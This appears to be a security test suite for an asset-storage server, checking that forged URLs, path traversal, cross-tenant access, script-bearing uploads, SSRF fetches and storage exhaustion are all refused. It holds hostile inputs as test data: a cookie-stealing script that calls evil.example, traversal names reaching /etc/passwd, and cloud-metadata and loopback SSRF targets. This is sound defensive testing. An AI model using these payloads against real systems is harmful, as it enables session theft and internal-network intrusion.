/**
 * Attacks on stored results: by what vendors send, by names and addresses, by what is fetched, by filling the storage.
 */
import { afterAll, beforeAll, expect, spyOn, test } from 'bun:test'
import { mkdir, readdir, readlink, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { openFolder } from '../../src/assets/folder.ts'
import { Refusal } from '../../src/core/refusal.ts'
import { systemClock } from '../../src/core/time.ts'
import { listen } from '../../src/http/listen/listen.ts'
import { leastGrowth } from '../memory-growth.ts'
import {
  ASSET_SETTINGS,
  type AssetServer,
  IN_FILES,
  mp4Head,
  png,
  startAssetServer,
  startWeb,
  type Web,
} from '../server/asset-rig.ts'
import { jsonOf } from '../server/harness.ts'

let server: AssetServer
let web: Web
let key: { id: string; token: string }
let inside = 0
let ended = 0

const forever = (head: Uint8Array, megabytes = Number.POSITIVE_INFINITY): ReadableStream<Uint8Array> => {
  const piece = new Uint8Array(1024 ** 2)
  let sent = 0
  return new ReadableStream({
    pull: (controller) => {
      controller.enqueue(sent === 0 ? head : piece)
      if (++sent > megabytes) controller.close()
    },
    cancel: () => {
      ended++
    },
  })
}

beforeAll(async () => {
  web = startWeb((path) => {
    if (path === '/inside') inside++
    if (path.startsWith('/to/'))
      return new Response(null, { status: 302, headers: { location: atob(path.slice(4)) } })
    if (path === '/endless') return new Response(forever(png(2, 2)))
    if (path === '/long') return new Response(forever(mp4Head, 300))
    return new Response(new Uint8Array(png(2, 2)))
  })
  server = await startAssetServer({ web, change: { settings: IN_FILES } })
  key = await server.newKey()
})
afterAll(async () => {
  await server.stop()
  web.stop()
})

const codeOf = async (response: Response) => [response.status, (await jsonOf(response)).error.code]
const files = async (folder = server.folder) =>
  (await readdir(folder, { recursive: true })).filter((path) => path.length > 2).sort()
const thrownBy = (work: Promise<unknown>): Promise<unknown> =>
  work.then(
    () => undefined,
    (thrown: unknown) => thrown,
  )

test('an address that was changed is not there, and nothing is read for it', async () => {
  const { url, id } = await server.keep({ keyId: key.id })
  const good = new URL(url)
  const find = spyOn(server.assets, 'find')
  const changed = [
    ['exp', '99999999999'],
    ['exp', String(Number(good.searchParams.get('exp')) + 1)],
    ['exp', ''],
    ['sig', '0'.repeat(64)],
    ['sig', ''],
  ].map(([name, value]) => {
    const forged = new URL(url)
    forged.searchParams.set(name ?? '', value ?? '')
    return forged.href
  })
  const another = url.replace(id, '0'.repeat(32))
  for (const address of [...changed, another, url.replace('.png', '.html'), url.replace(/&sig=.*/, '')])
    expect(await codeOf(await server.fetchUrl(address))).toEqual([404, 'not_found'])
  expect(find).not.toHaveBeenCalled()
  find.mockRestore()
  // Not even the key makes a forged address good.
  const authorization = { authorization: `Bearer ${key.token}` }
  expect((await server.fetchUrl(another, authorization)).status).toBe(404)
  for (const more of ['&exp=1', '&sig=1', '&download=1'])
    expect((await server.fetchUrl(`${url}${more}`)).status).toBe(400)
})

test.each([
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e%2fturnpike.db',
  '%00',
  'a%00.png',
  '....png',
  '.png',
  `${'0'.repeat(32)}.png%00.html`,
  `${'0'.repeat(32)}.part`,
  'x'.repeat(5_000),
])('the name %s leads nowhere', async (name) => {
  const statuses = [400, 404]
  for (const method of ['GET', 'DELETE'])
    expect(statuses).toContain((await server.send(method, `/v1/assets/${name}`, undefined, key.token)).status)
  // Not even under a signature of ours.
  const exp = '99999999999'
  const sig = server.hash(`asset ${decodeURIComponent(name)} ${exp}`)
  const signed = await server.fetchUrl(`http://turnpike.test/v1/assets/${name}?exp=${exp}&sig=${sig}`)
  // The address has the right form, so it may have existed once.
  expect([...statuses, 410]).toContain(signed.status)
})

test('another tenant cannot tell an asset of others from none, and cannot delete it', async () => {
  const other = await server.newKey()
  const { id } = await server.keep({ keyId: key.id })
  const answerTo = async (name: string, method = 'GET') => {
    const response = await server.send(method, `/v1/assets/${name}`, undefined, other.token)
    const { request_id: _, ...error } = (await jsonOf(response)).error
    return { status: response.status, error }
  }
  expect(await answerTo(`${id}.png`)).toEqual(await answerTo(`${'0'.repeat(32)}.png`))
  expect(await answerTo(id, 'DELETE')).toEqual(await answerTo('0'.repeat(32), 'DELETE'))
  expect((await server.assets.find(id))?.id).toBe(id)
})

const script = '<script>fetch("//evil.example/"+document.cookie)</script>'

test.each([
  ['SVG', 'image', `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`, 'image/svg+xml'],
  ['HTML', 'file', `<!doctype html>${script}`, 'application/octet-stream'],
  [
    'XHTML',
    'file',
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`,
    'application/octet-stream',
  ],
  ['a PDF and ZIP', 'file', '%PDF-1.7\nPK\x03\x04', 'application/pdf'],
  ['a GIF and script', 'image', `GIF89a/*\x01\x00\x00\x00\x00*/=1;//${script}`, 'image/gif'],
] as const)('%s runs nowhere', async (_what, type, text, mediaType) => {
  const { url } = await server.keep({ keyId: key.id, type, from: { bytes: Buffer.from(text, 'latin1') } })
  const response = await server.fetchUrl(url)
  await response.body?.cancel()
  expect(response.headers.get('content-type')).toBe(mediaType)
  expect(response.headers.get('x-content-type-options')).toBe('nosniff')
  expect(response.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'")
  expect(response.headers.get('content-disposition')?.startsWith('attachment')).toBe(
    mediaType !== 'image/gif',
  )
})

test('a small picture that claims 16,000 by 16,000 is refused, and never decoded', async () => {
  const small = Buffer.from(png(1, 1))
  small.writeUInt32BE(16_000, 16)
  small.writeUInt32BE(16_000, 20)
  const before = await files()
  expect(await thrownBy(server.keep({ keyId: key.id, from: { bytes: small } }))).toMatchObject({
    side: 'source',
    again: false,
  })
  expect(await files()).toEqual(before)
})

test.each([
  'https://169.254.169.254/latest/meta-data/',
  'https://[::ffff:127.0.0.1]/inside',
  'https://2130706433/inside',
  'https://inside.example.com/inside',
  'http://cdn.example.com/inside',
  'file:///etc/passwd',
])('the result %s is not fetched, neither first nor behind a redirect', async (url) => {
  for (const from of [{ url }, { url: `https://cdn.example.com/to/${btoa(url)}` }])
    expect(await thrownBy(server.keep({ keyId: key.id, from }))).toMatchObject({
      side: 'source',
      again: false,
    })
  expect(inside).toBe(0)
})

test('a result without end is cut at its limit, and nothing of it stays', async () => {
  const before = await files()
  const from = { url: 'https://cdn.example.com/endless' }
  const refusal = await thrownBy(server.keep({ keyId: key.id, from }))
  expect(refusal instanceof Refusal && refusal.code).toBe('asset_too_large')
  while (ended === 0) await Bun.sleep(5)
  expect(await files()).toEqual(before)
  expect(await server.store.assets.endedAssets(1)).toEqual([])
})

test('a result of 300 MB is stored and read again in constant memory', async () => {
  const from = { url: 'https://cdn.example.com/long' }
  // The server of the vendor is in this process too.
  const limit = 250 * 1024 ** 2
  const growth = await leastGrowth(limit, async () => {
    const kept = await server.keep({ keyId: key.id, type: 'video', from })
    expect(kept.bytes).toBe(300 * 1024 ** 2 + mp4Head.length)
    let read = 0
    const response = await server.fetchUrl(kept.url)
    for await (const piece of response.body ?? []) read += piece.length
    expect(read).toBe(kept.bytes)
    await server.assets.end(kept.id, key.id)
    await server.assets.sweep()
  })
  expect(growth).toBeLessThan(limit)
})

test('a disk that is full while a result is stored leaves nothing, and the next one is stored', async () => {
  const id = 'ab'.repeat(16)
  const ids = [id, 'cd'.repeat(16)]
  const full = await startAssetServer({
    change: { newId: () => ids.shift() ?? '', settings: IN_FILES },
  })
  const owner = await full.newKey()
  await mkdir(join(full.folder, 'ab'), { recursive: true })
  await symlink('/dev/full', join(full.folder, 'ab', `${id}.part`))
  const fault = await thrownBy(full.keep({ keyId: owner.id }))
  expect(fault).toMatchObject({ side: 'storage', again: true, cause: { code: 'ENOSPC' } })
  expect(await files(full.folder)).toEqual([])
  expect((await full.store.assets.assetBytes(0)).all).toBe(0)
  expect((await full.keep({ keyId: owner.id })).id).toBe('cd'.repeat(16))
  await full.stop()
})

test('without room calls are refused before they are submitted, and taken again when there is some', async () => {
  const hour = 3_600_000
  const settings = { ...ASSET_SETTINGS, lifeMs: hour, addressMs: hour, bytesMax: 1_000_000 }
  let nowMs = 0
  const clock = { ...systemClock, monotonicMs: () => nowMs }
  const small = await startAssetServer({ change: { clock, settings: { ...settings, bytesMax: 10 } } })
  const owner = await small.newKey()
  expect(await small.assets.full()).toBeUndefined()
  const { id } = await small.keep({ keyId: owner.id })
  expect(await small.assets.full()).toMatchObject({
    code: 'service_unavailable',
    headers: { 'retry-after': '60' },
  })
  await small.assets.end(id, owner.id)
  await small.assets.sweep()
  nowMs += 60_000
  expect(await small.assets.full()).toBeUndefined()
  await small.stop()
  const nearlyFull = await startAssetServer({ change: { settings: { ...settings, freeBytesMin: 1e18 } } })
  expect((await nearlyFull.assets.full())?.message).toContain('disk is nearly full')
  await nearlyFull.stop()
  const file = join(server.folder, 'a-file')
  await writeFile(file, '')
  const nowhere = await startAssetServer({ change: { bytes: openFolder(join(file, 'assets')) } })
  expect((await nowhere.assets.full())?.message).toContain('cannot be reached')
  await nowhere.stop()
})

test('readers that go away or take nothing leave no file open and no place taken', async () => {
  const film = Buffer.concat([mp4Head, Buffer.alloc(50_000_000)])
  const { url } = await server.keep({ keyId: key.id, type: 'video', from: { bytes: film } })
  const { port, stop } = listen(server, { hostname: '127.0.0.1', port: 0, shared: false })
  const address = new URL(url)
  const readers = await Promise.all(
    Array.from({ length: 20 }, async () => {
      const controller = new AbortController()
      const at = `http://127.0.0.1:${port}${address.pathname}${address.search}`
      const response = await fetch(at, { signal: controller.signal })
      expect(response.status).toBe(200)
      return { controller, reader: response.body?.getReader() }
    }),
  )
  const open = async () => {
    const links = (await readdir('/proc/self/fd')).map((fd) =>
      readlink(`/proc/self/fd/${fd}`).catch(() => 'closed meanwhile'),
    )
    return (await Promise.all(links)).filter((path) => path.startsWith(server.folder)).length
  }
  expect(server.gateway.capacity.calls.used()).toBe(20)
  expect(await open()).toBe(20)
  for (const { reader } of readers) await reader?.read()
  for (const { controller } of readers) controller.abort()
  while (server.gateway.capacity.calls.used() > 0) await Bun.sleep(10)
  expect(await open()).toBe(0)
  stop()
})
